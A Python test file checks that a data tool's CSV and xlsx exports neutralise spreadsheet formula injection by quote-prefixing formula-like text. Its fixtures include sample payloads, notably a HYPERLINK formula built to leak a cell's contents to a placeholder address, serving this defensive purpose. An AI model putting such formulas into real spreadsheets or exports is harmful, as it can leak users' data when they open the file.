"""Every spreadsheet the tool writes keeps formula-like text as text. Export paths, all through
etl.writers: the dashboard's CSV and xlsx downloads of every chart and table (components.to_csv,
components.to_xlsx), the upload report's xlsx (Report.frame → components.to_xlsx), `etl scores
--format csv` (writers.csv_text), and writers.workbook, which writes the templates and the demo's
xlsx files (their content is ours, so only the writer itself is tested here)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest

from dashboard import components
from etl import writers
from etl.cli import main
from etl.sources.workbook import read_sheets
from etl.validate import Report
from tests import filebuilders as fb
from tests.conftest import BRANCH

RISKY = ['=HYPERLINK("http://127.0.0.1:9/?leak="&B2,"点我")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"]
FRAME = pd.DataFrame({"name": RISKY, "score": [-3.0, 1.5, 2.0, -0.5, 0.0], "text": ["-3.00", "正常", "a", "b", "c"]})


def xlsx_cells(data: bytes) -> list[list]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    return [list(row) for row in sheet.iter_rows()]


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def report_xlsx(frame: pd.DataFrame) -> bytes:
    """The upload page's report download: a real Report's frame, exported as the page does, with
    the risky values as the cells it quotes and the scores in a column of its own."""
    report = Report("x.xlsx")
    for value in frame["name"]:
        report.add("S", 2, "A（姓名）", value, "名册中没有这位党员")
    exported = report.frame().assign(score=list(frame["score"]), text=list(frame["text"]))
    return components.to_xlsx({"检查报告": exported[["内容", "score", "text"]]})


XLSX_PATHS = {
    "download xlsx": lambda frame: components.to_xlsx({"表": frame}),
    "upload report xlsx": lambda frame: report_xlsx(frame),
    "writers.workbook (templates, demo files)": lambda frame: writers.workbook(
        [writers.Sheet("S", writers.frame_rows(frame))]
    ),
}
CSV_PATHS = {
    "download csv (components.downloads)": lambda frame: components.to_csv(frame).decode("utf-8-sig"),
    "writers.csv_text (etl scores --format csv)": writers.csv_text,
}


@pytest.mark.parametrize("path", XLSX_PATHS)
def test_xlsx_exports_keep_formula_text_as_text(path):
    rows = xlsx_cells(XLSX_PATHS[path](FRAME))
    names = [row[0] for row in rows[1:]]
    assert [c.value for c in names] == RISKY  # the value itself unchanged
    assert all(c.data_type == "s" and c.quotePrefix for c in names)  # text, quote-prefixed: never a formula
    assert [c.value for c in (row[1] for row in rows[1:])] == list(FRAME["score"])  # numbers stay numbers
    assert rows[1][2].value == "-3.00" and rows[1][2].quotePrefix  # text that looks like a number is text


@pytest.mark.parametrize("path", CSV_PATHS)
def test_csv_exports_quote_formula_text_but_not_numbers(path):
    rows = csv_rows(CSV_PATHS[path](FRAME))[1:]
    assert [r[0] for r in rows] == ["'" + v for v in RISKY]
    assert [r[1] for r in rows] == ["-3.0", "1.5", "2.0", "-0.5", "0.0"]
    assert rows[0][2] == "-3.00"  # a finite number written as text is not quoted


def test_a_csv_the_tool_wrote_loads_back_unchanged():
    grid = read_sheets(writers.csv_bytes(FRAME), "back.csv")[0].grid
    assert [row[0] for row in grid[1:]] == RISKY


def test_etl_scores_csv_neutralises_names(tmp_path, capsys):
    rows = [["姓名", "党小组", "党员类别"], ["=1+1", "第一党小组", "正式"], ["@张三", "第一党小组", "正式"]]
    db = str(tmp_path / "v.duckdb")
    assert main(["load", "--db", db, "--branch", BRANCH, str(fb.csv_file(tmp_path / "r.csv", rows))]) == 0
    attendance = fb.csv_file(
        tmp_path / "a.csv",
        [
            ["日期", "活动类型", "姓名", "状态"],
            ["2025-03-15", "主题党日", "=1+1", "缺席"],
            ["2025-03-15", "主题党日", "@张三", "出席"],
        ],
    )
    assert main(["load", "--db", db, "--branch", BRANCH, str(attendance)]) == 0
    capsys.readouterr()
    assert main(["scores", "--db", db, "--branch", BRANCH, "--period", "2025-03", "--format", "csv"]) == 0
    rows = csv_rows(capsys.readouterr().out)
    assert {r[2] for r in rows[1:]} == {"'=1+1", "'@张三"}
    assert {r[10] for r in rows[1:]} == {"3.00", "0.00"}  # deduction: numbers as they were
